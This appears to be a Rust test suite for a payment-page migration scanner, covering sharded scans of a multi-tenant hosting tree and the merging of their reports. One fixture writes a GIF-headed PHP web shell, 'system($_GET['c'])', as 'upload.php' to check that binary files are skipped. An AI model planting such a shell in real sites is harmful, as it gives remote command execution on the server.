//! Tenants, shards and `merge` (issue 15): a hosting tree split with `--shard K/N` and joined
//! again with `merge` is the run over the whole tree, in every format, minus its timing; each
//! tenant is in exactly one shard; and `merge` refuses reports that are not one run's.

mod common;
mod report_schema;

use std::fs;
use std::path::Path;
use std::process::Output;

use common::{copy_tree, root, tool};
use kspay_migrate::report;
use report_schema::assert_valid_report;
use serde_json::Value;

/// A hosting tree, `home/USER/...`: the sample shops as tenants (EUC-KR ASP and PHP, UTF-8
/// JSP and HTML), some of them twice, tenants with clean pages only, one with a binary file
/// named like a page (skipped), and one whose stale table row a suppression comment silences.
fn hosting_tree() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let shops = [
        ("alice", "php-shop"),
        ("bob", "asp-shop"),
        ("carol", "jsp-shop"),
        ("dave", "html-shop"),
        ("hana", "php-shop"),
        ("ivan", "asp-shop"),
        ("jun", "jsp-shop"),
        ("kim", "html-shop"),
    ];
    for (user, shop) in shops {
        copy_tree(
            &root().join("samples").join(shop),
            &home.join(user).join("public_html"),
        );
    }
    for user in ["erin", "lee", "min"] {
        let site = home.join(user).join("public_html");
        fs::create_dir_all(&site).unwrap();
        fs::write(
            site.join("index.php"),
            "<?php include 'header.php'; ?>\r\n<p>제주/도서산간 지역은 추가 배송비가 있습니다.</p>\r\n",
        )
        .unwrap();
    }
    fs::write(
        home.join("erin/public_html/upload.php"),
        b"GIF89a\x00\x01\x00\x00<?php system($_GET['c']); ?>",
    )
    .unwrap();
    let site = home.join("frank/public_html/pay");
    fs::create_dir_all(&site).unwrap();
    fs::write(site.join("order.php"), SUPPRESSED_ENTRY).unwrap();
    dir
}

/// A KSPAY entry page whose MPI row a comment keeps for a test contract.
const SUPPRESSED_ENTRY: &str = r##"<?php
$ordernumber = $_POST["ordernumber"];
$certitype = isset($_POST["certitype"]) ? $_POST["certitype"] : "I";
?>
<html>
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>KSPAY</title></head>
<body>
<form name="KSPayForm" method="post" action="KSPayCreditForm.php">
	<table width="100%" border="0" cellpadding="6" cellspacing="1" bgcolor="#D5D5D5">
	<?php // kspay-migrate: ignore jeju-mpi-to-isp -- 시험 상점 2999199999, 운영 전환 전까지 유지 ?>
	<tr bgcolor="#FFFFFF">
		<td bgcolor="#F7F7F7" rowspan="2"><b>거래종류</b></td>
		<td width="170"><input type="radio" name="certitype" value="M" <? if ($certitype == "M") echo "checked"; ?>>안심클릭(MPI)</td>
		<td>외환카드, 삼성카드, 현대카드, 신한카드, 롯데카드, 제주카드</td>
	</tr>
	<tr bgcolor="#FFFFFF">
		<td><input type="radio" name="certitype" value="I" <? if ($certitype == "I") echo "checked"; ?>>안전결제(ISP)</td>
		<td>BC카드, 국민카드, 수협카드, 전북카드, 광주카드</td>
	</tr>
	</table>
</form>
</body>
</html>
"##;

fn run(dir: &Path, args: &[&str]) -> Output {
    tool().current_dir(dir).args(args).output().unwrap()
}

/// The JSON report on a run's stdout, checked against the schema and against what `merge`
/// reads: the report is written item by item without the type `merge` reads it into, so the
/// two must be held together.
fn json(output: &Output) -> Value {
    let value: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    });
    assert_valid_report(&value);
    let written = std::str::from_utf8(&output.stdout).unwrap();
    let read = report::json::read(written).unwrap();
    assert_eq!(
        serde_json::to_string_pretty(&read).unwrap() + "\n",
        written,
        "the report read back writes the same bytes: fields, order and all"
    );
    value
}

/// A report without its timing, which no two runs share.
fn timeless(mut report: Value) -> Value {
    report["summary"]["elapsed_ms"] = Value::from(0);
    report
}

/// Text without the `(N ms)` of closing lines.
fn without_times(text: &[u8]) -> String {
    let text = String::from_utf8_lossy(text);
    regex::Regex::new(r"\(\d+ ms\)")
        .unwrap()
        .replace_all(&text, "(ms)")
        .into_owned()
}

/// Writes `check`'s (or `fix`'s) JSON report of each shard K/3 into the tree's folder, and
/// returns their names.
fn shard_reports(dir: &Path, command: &[&str]) -> Vec<String> {
    (1..=3)
        .map(|k| {
            let name = format!("shard-{k}.json");
            let shard = format!("{k}/3");
            let mut args = command.to_vec();
            args.extend([
                "--shard", &shard, "--format", "json", "--output", &name, "home",
            ]);
            let out = run(dir, &args);
            assert!(
                out.status.code().is_some_and(|code| code < 2),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            name
        })
        .collect()
}

fn merge(dir: &Path, reports: &[String], extra: &[&str]) -> Output {
    let mut args = vec!["merge"];
    args.extend(reports.iter().map(String::as_str));
    args.extend(extra);
    run(dir, &args)
}

#[test]
fn shards_merged_are_the_whole_run_in_every_format() {
    let dir = hosting_tree();
    let whole = run(dir.path(), &["check", "--format", "json", "home"]);
    let whole_report = json(&whole);
    assert!(whole_report["findings"].as_array().unwrap().len() >= 20);
    assert_eq!(whole_report["skipped"][0]["tenant"], "home/erin");
    assert_eq!(whole_report["suppressed"][0]["tenant"], "home/frank");
    let reports = shard_reports(dir.path(), &["check"]);

    // Every tenant is in exactly one shard, and every shard has some.
    let mut seen = Vec::new();
    for name in &reports {
        let shard: Value =
            serde_json::from_slice(&fs::read(dir.path().join(name)).unwrap()).unwrap();
        assert_valid_report(&shard);
        let tenants: Vec<String> = shard["tenants"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| row["tenant"].as_str().unwrap().to_string())
            .collect();
        assert!(!tenants.is_empty(), "{name} scanned no tenant");
        seen.extend(tenants);
    }
    seen.sort();
    let all: Vec<&str> = whole_report["tenants"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["tenant"].as_str().unwrap())
        .collect();
    assert_eq!(all.len(), 12);
    assert_eq!(seen, all, "each tenant once, in one shard");

    let merged = merge(dir.path(), &reports, &["--format", "json"]);
    assert_eq!(merged.status.code(), whole.status.code());
    assert_eq!(timeless(json(&merged)), timeless(whole_report));

    for format in ["text", "sarif", "github", "tenants"] {
        let whole = run(dir.path(), &["check", "--format", format, "home"]);
        let merged = merge(dir.path(), &reports, &["--format", format]);
        assert_eq!(
            without_times(&merged.stdout),
            without_times(&whole.stdout),
            "--format {format}"
        );
        assert_eq!(
            without_times(&merged.stderr),
            without_times(&whole.stderr),
            "--format {format}"
        );
    }
    // JUnit lists the files the reports name (clean files are counted, not listed in JSON):
    // its failures and skips are the whole run's.
    let counts = |xml: &[u8]| {
        let xml = String::from_utf8(xml.to_vec()).unwrap();
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let suite = doc.root_element();
        ["failures", "errors", "skipped"].map(|name| suite.attribute(name).unwrap().to_string())
    };
    let whole_junit = run(dir.path(), &["check", "--format", "junit", "home"]);
    let merged_junit = merge(dir.path(), &reports, &["--format", "junit"]);
    assert_eq!(merged_junit.status.code(), Some(1));
    assert_eq!(counts(&merged_junit.stdout), counts(&whole_junit.stdout));
    let text = String::from_utf8(merged_text(dir.path(), &reports)).unwrap();
    assert!(text.contains("8 of 12 tenants have stale pages."), "{text}");
}

fn merged_text(dir: &Path, reports: &[String]) -> Vec<u8> {
    merge(dir, reports, &[]).stdout
}

#[test]
fn fix_shards_merged_carry_the_diffs() {
    let dir = hosting_tree();
    let whole = run(dir.path(), &["fix", "--format", "json", "home"]);
    let whole_report = json(&whole);
    assert!(!whole_report["changes"].as_array().unwrap().is_empty());
    let reports = shard_reports(dir.path(), &["fix"]);
    let merged = merge(dir.path(), &reports, &["--format", "json"]);
    assert_eq!(merged.status.code(), whole.status.code());
    assert_eq!(timeless(json(&merged)), timeless(whole_report));

    // The dry run's text is its diffs: the same from the joined shards.
    let whole_text = run(dir.path(), &["fix", "home"]);
    let merged_text = merge(dir.path(), &reports, &[]);
    assert_eq!(
        without_times(&merged_text.stdout),
        without_times(&whole_text.stdout)
    );
    assert_eq!(
        without_times(&merged_text.stderr),
        without_times(&whole_text.stderr)
    );
    assert!(
        String::from_utf8_lossy(&merged_text.stdout)
            .contains("-\t\t\t<option value=\"13\">제주카드</option>")
    );
}

#[test]
fn baseline_comparisons_join_across_shards() {
    let dir = hosting_tree();
    let out = run(
        dir.path(),
        &["check", "--write-baseline", "base.json", "home"],
    );
    assert_eq!(out.status.code(), Some(0));
    // One tenant fixes its pages: its entries go stale.
    let out = run(dir.path(), &["fix", "--write", "home/alice"]);
    assert!(out.status.code().is_some_and(|code| code < 2));
    let whole = json(&run(
        dir.path(),
        &[
            "check",
            "--baseline",
            "base.json",
            "--format",
            "json",
            "home",
        ],
    ));
    assert!(!whole["baseline"]["stale"].as_array().unwrap().is_empty());
    assert!(!whole["baselined"].as_array().unwrap().is_empty());
    let reports = shard_reports(dir.path(), &["check", "--baseline", "base.json"]);
    let merged = json(&merge(dir.path(), &reports, &["--format", "json"]));
    assert_eq!(timeless(merged), timeless(whole));
    // SARIF lists the findings the baseline accepts, as `unchanged`.
    let whole = run(
        dir.path(),
        &[
            "check",
            "--baseline",
            "base.json",
            "--format",
            "sarif",
            "home",
        ],
    );
    let merged = merge(dir.path(), &reports, &["--format", "sarif"]);
    assert!(String::from_utf8_lossy(&whole.stdout).contains("\"unchanged\""));
    assert_eq!(merged.stdout, whole.stdout);
}

#[test]
fn a_missing_shard_is_named_and_reports_of_other_runs_are_refused() {
    let dir = hosting_tree();
    let reports = shard_reports(dir.path(), &["check"]);

    let partial = merge(dir.path(), &reports[..2], &[]);
    let stderr = String::from_utf8_lossy(&partial.stderr);
    assert!(
        stderr.contains(
            "warning: the merged reports lack shard 3/3: the tenants of it were not scanned"
        ),
        "{stderr}"
    );

    // Two copies of one shard's report (the same file twice is refused before this).
    fs::copy(dir.path().join(&reports[0]), dir.path().join("copy.json")).unwrap();
    let twice = merge(dir.path(), &["copy.json".into(), reports[0].clone()], &[]);
    assert_eq!(twice.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&twice.stderr)
            .contains("shard-1.json: shard 1/3 is also copy.json"),
        "{}",
        String::from_utf8_lossy(&twice.stderr)
    );

    let out = run(
        dir.path(),
        &[
            "check",
            "--tenant-depth",
            "2",
            "--shard",
            "3/3",
            "--format",
            "json",
            "--output",
            "deep.json",
            "home",
        ],
    );
    assert!(out.status.code().is_some_and(|code| code < 2));
    let mixed = merge(
        dir.path(),
        &[reports[0].clone(), reports[1].clone(), "deep.json".into()],
        &[],
    );
    assert_eq!(mixed.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&mixed.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with(
            "kspay-migrate: error: deep.json: made with --tenant-depth 2, but shard-1.json with 1"
        ),
        "{stderr}"
    );

    fs::write(dir.path().join("notes.json"), "{\"hello\": 1}").unwrap();
    let bad = merge(dir.path(), &["notes.json".into()], &[]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&bad.stderr)
            .starts_with("kspay-migrate: error: notes.json: not a kspay-migrate JSON report")
    );
    let mut old: Value =
        serde_json::from_slice(&fs::read(dir.path().join(&reports[0])).unwrap()).unwrap();
    old["version"] = Value::from(1);
    fs::write(dir.path().join("old.json"), old.to_string()).unwrap();
    let old = merge(dir.path(), &["old.json".into()], &[]);
    assert_eq!(old.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&old.stderr).contains("old.json: a version 1 report"));
}

#[test]
fn tenants_are_the_first_folders_under_each_path() {
    let dir = hosting_tree();
    let one = json(&run(dir.path(), &["check", "--format", "json", "home"]));
    let finding = &one["findings"][0];
    assert!(finding["path"].as_str().unwrap().starts_with("home/alice/"));
    assert_eq!(finding["tenant"], "home/alice");
    let two = json(&run(
        dir.path(),
        &["check", "--tenant-depth", "2", "--format", "json", "home"],
    ));
    assert_eq!(two["findings"][0]["tenant"], "home/alice/public_html");
    assert_eq!(two["run"]["tenant_depth"], 2);

    let csv = run(dir.path(), &["check", "--output", "tenants=t.csv", "home"]);
    assert_eq!(csv.status.code(), Some(1));
    let csv = fs::read_to_string(dir.path().join("t.csv")).unwrap();
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("tenant,files_scanned,files_with_findings,findings,fixable,fixed,errors,skipped")
    );
    let erin = csv
        .lines()
        .find(|line| line.starts_with("home/erin,"))
        .unwrap();
    assert_eq!(erin, "home/erin,1,0,0,0,0,0,1");
    assert_eq!(csv.lines().count(), 13);
}

#[test]
fn a_shard_of_a_file_list_keeps_each_named_file_with_its_tenant() {
    let dir = hosting_tree();
    let list: Vec<String> = [
        "home/alice/public_html/pay/KSPayForm.php",
        "home/bob/public_html/kspay/KSPayForm.asp",
        "home/carol/public_html/WEB-INF/jsp/order/payment.jsp",
        "home/dave/public_html/pay/card_select.html",
        "home/erin/public_html/index.php",
        "home/lee/public_html/index.php",
        "home/min/public_html/index.php",
    ]
    .map(String::from)
    .to_vec();
    fs::write(dir.path().join("list.txt"), list.join("\n")).unwrap();
    let mut seen = 0;
    for k in 1..=2 {
        let shard = format!("{k}/2");
        let out = json(&run(
            dir.path(),
            &[
                "check",
                "--files-from",
                "list.txt",
                "--tenant-depth",
                "2",
                "--shard",
                &shard,
                "--format",
                "json",
            ],
        ));
        seen += out["summary"]["files_scanned"].as_u64().unwrap();
        // Named files have no PATH above them: their tenant is their first two folders.
        for row in out["tenants"].as_array().unwrap() {
            let tenant = row["tenant"].as_str().unwrap();
            assert!(
                list.iter()
                    .any(|path| path.starts_with(&format!("{tenant}/"))),
                "{row}"
            );
            assert_eq!(tenant.matches('/').count(), 1, "{row}");
        }
    }
    assert_eq!(seen, list.len() as u64, "each listed file in one shard");
}

#[test]
fn a_report_given_twice_or_holding_impossible_places_is_refused() {
    let dir = hosting_tree();
    let out = run(
        dir.path(),
        &["check", "--format", "json", "--output", "all.json", "home"],
    );
    assert_eq!(out.status.code(), Some(1));
    // The same report twice would count every finding twice.
    let twice = merge(dir.path(), &["all.json".into(), "./all.json".into()], &[]);
    assert_eq!(twice.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&twice.stderr);
    assert!(
        stderr.starts_with("kspay-migrate: error: ./all.json: is also given as all.json"),
        "{stderr}"
    );

    // A report edited by hand (or by an attacker) must not make merge panic on a span
    // outside its line or a column 0.
    let report: Value =
        serde_json::from_slice(&fs::read(dir.path().join("all.json")).unwrap()).unwrap();
    for (field, value) in [("start", 9999), ("column", 0)] {
        let mut bad = report.clone();
        match field {
            "start" => bad["findings"][0]["source"]["start"] = Value::from(value),
            _ => bad["findings"][0]["column"] = Value::from(value),
        }
        fs::write(dir.path().join("bad.json"), bad.to_string()).unwrap();
        let out = merge(
            dir.path(),
            &["bad.json".into()],
            &["--format", "html", "--output", "-"],
        );
        assert_eq!(out.status.code(), Some(2), "{field}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("a finding whose place is not one a report can hold"),
            "{stderr}"
        );
    }

    // A split into very many shards: the warning names a few of the missing ones.
    let mut one = report.clone();
    one["run"]["shard"] = Value::from("1/1000000000");
    fs::write(dir.path().join("one.json"), one.to_string()).unwrap();
    let out = merge(dir.path(), &["one.json".into()], &["--format", "json"]);
    let notes = json(&out)["notes"].to_string();
    assert!(notes.contains("2/1000000000, 3/1000000000"), "{notes}");
    assert!(notes.contains("and 999999989 more"), "{notes}");
}

#[test]
fn a_path_that_cannot_be_walked_is_one_shards_error() {
    let dir = hosting_tree();
    // A link given as the PATH is not followed without --follow-symlinks: an error, which
    // every shard used to report, so that merge refused them as overlapping.
    std::os::unix::fs::symlink("home", dir.path().join("homelink")).unwrap();
    let reports: Vec<String> = (1..=3)
        .map(|k| {
            let name = format!("link-{k}.json");
            let shard = format!("{k}/3");
            run(
                dir.path(),
                &[
                    "check", "--shard", &shard, "--format", "json", "--output", &name, "homelink",
                ],
            );
            name
        })
        .collect();
    let merged = merge(dir.path(), &reports, &["--format", "json"]);
    assert_eq!(
        merged.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&merged.stderr)
    );
    let errors = json(&merged)["errors"].as_array().unwrap().len();
    assert_eq!(errors, 1);
}
